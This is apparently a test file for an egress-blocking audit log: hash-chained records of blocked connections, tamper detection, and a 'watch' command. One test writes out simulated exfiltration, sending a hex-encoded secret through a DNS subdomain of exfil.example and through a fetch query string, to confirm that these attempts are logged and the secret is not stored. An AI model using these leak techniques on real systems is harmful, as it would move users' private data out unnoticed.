import { appendFileSync, readdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { egressCommand } from '#server/cli/egress.ts';
import { auditFileName, readAudit } from '#server/egress/audit.ts';
import { tempFolder } from '../support/temp-folder.ts';
import { runGuarded } from './guarded-process.ts';
import { testIo } from './test-io.ts';

function attemptsIn(folder: string, body: string) {
  return runGuarded(
    `import net from 'node:net'; import dns from 'node:dns'; import { once } from 'node:events';
     const { openEgressAudit } = await import(root + '/server/egress/audit.ts');
     const audit = openEgressAudit(${JSON.stringify(folder)});
     const knock = (host, port = 443) => once(net.connect(port, host), 'close').catch(() => undefined);
     ${body}
     audit.close();`,
  );
}

describe('the record of blocked attempts', () => {
  it('chains its lines, counts repetitions instead of writing them, and goes on after a restart', async () => {
    const folder = tempFolder();
    await attemptsIn(
      folder,
      `for (let i = 0; i < 5; i += 1) await knock('api.deepseek.com'); await knock('203.0.113.10', 80);`,
    );
    await attemptsIn(folder, `await knock('other.example');`);
    const { events, brokenAt } = readAudit(join(folder, auditFileName));
    expect(brokenAt).toBeNull();
    expect(events.map(({ ruleId, target, count }) => [ruleId, target.name ?? target.address, count])).toEqual(
      [
        ['deepseek-official:deepseek.com', 'api.deepseek.com', 1],
        ['default-deny', '203.0.113.10', 1],
        ['deepseek-official:deepseek.com', 'api.deepseek.com', 4],
        ['default-deny', 'other.example', 1],
      ],
    );
    expect(events[0]).toMatchObject({
      event: 'egress.blocked',
      layer: 'name',
      phase: 'serve',
      policyId: 'stillroom-default',
      prevHash: '0'.repeat(64),
    });
  });

  it('shows a line that was changed or removed', async () => {
    const folder = tempFolder();
    await attemptsIn(folder, `await knock('a.example'); await knock('b.example'); await knock('c.example');`);
    const path = join(folder, auditFileName);
    const text = readFileSync(path, 'utf8');
    writeFileSync(path, text.replace('b.example', 'x.example'));
    expect(readAudit(path).brokenAt).toBe(2);
    writeFileSync(path, text.split('\n').toSpliced(1, 1).join('\n'));
    expect(readAudit(path).brokenAt).toBe(2);
    writeFileSync(path, text.split('\n').slice(1).join('\n'));
    expect(readAudit(path).brokenAt).toBe(1);
  });

  it('goes on behind a line that power loss cut short, and in a new file, as one chain', async () => {
    const folder = tempFolder();
    await attemptsIn(folder, `await knock('a.example');`);
    const path = join(folder, auditFileName);
    appendFileSync(path, '{"event":"egress.blo');
    await attemptsIn(folder, `await knock('b.example');`);
    expect(readAudit(path)).toMatchObject({ brokenAt: null, events: [{}, {}] });
    renameSync(path, join(folder, 'egress-audit.1.jsonl'));
    await attemptsIn(folder, `await knock('c.example');`);
    expect(readAudit(path)).toMatchObject({ brokenAt: null, events: [{ target: { name: 'c.example' } }] });
  });

  it('is shown by one command, which says when it was changed', async () => {
    const data = tempFolder();
    await attemptsIn(data, `await knock('api.deepseek.com'); await knock('b.example');`);
    const shown = testIo();
    expect(await egressCommand(['watch', '--once', '--data', data], shown)).toBe(0);
    expect(shown.written.out).toMatch(
      /name {4}api\.deepseek\.com:443 {2}deepseek-official:deepseek\.com {2}×1 {2}gateway \d+/u,
    );
    const path = join(data, auditFileName);
    writeFileSync(path, readFileSync(path, 'utf8').replace('api.deepseek.com', 'harmless.example'));
    const changed = testIo();
    expect(await egressCommand(['watch', '--once', '--data', data], changed)).toBe(1);
    expect(changed.written.err).toMatch(/line 1 does not match the hash chain/u);
  });

  it('that is empty gives nothing to a program that reads JSON, and a sentence to people', async () => {
    const io = testIo();
    expect(await egressCommand(['watch', '--once', '--json', '--data', tempFolder()], io)).toBe(0);
    expect(io.written.out).toBe('');
    expect(io.written.err).toMatch(/No attempt has been blocked so far/u);
  });

  it('goes on showing attempts as they come', async () => {
    const data = tempFolder();
    const stop = new AbortController();
    const io = { ...testIo(), signal: stop.signal };
    const seen = Promise.withResolvers<void>();
    const follow = {
      ...io,
      out: (text: string) => (text.includes('later.example') ? seen.resolve() : undefined),
    };
    const watching = egressCommand(['watch', '--data', data], follow);
    await attemptsIn(data, `await knock('later.example');`);
    await seen.promise;
    stop.abort();
    expect(await watching).toBe(0);
  });

  it('holds what children and workers tried, and not what they tried to send', async () => {
    const folder = tempFolder();
    const secret = Buffer.from('the secret prompt').toString('hex');
    const { printed } = await attemptsIn(
      folder,
      `import { fork } from 'node:child_process'; import { writeFileSync } from 'node:fs'; import { Worker } from 'node:worker_threads';
       writeFileSync(import.meta.dirname + '/child.cjs', "require('node:dns').lookup('${secret}.exfil.example', () => {})");
       await once(fork(import.meta.dirname + '/child.cjs'), 'exit');
       await once(new Worker("fetch('http://worker.example/?q=${secret}').catch(() => {})", { eval: true }), 'exit');
       print(audit.childAttempts());`,
    );
    expect(printed).toEqual([2]);
    const { events } = readAudit(join(folder, auditFileName));
    expect(events.map(({ target, process: source }) => [target.name, source.role]).sort()).toEqual([
      ['[34 characters].exfil.example', 'child'],
      ['worker.example', 'child'],
    ]);
    expect(readFileSync(join(folder, auditFileName), 'utf8')).not.toContain(secret);
    expect(readdirSync(folder)).toEqual([auditFileName]);
  });
});
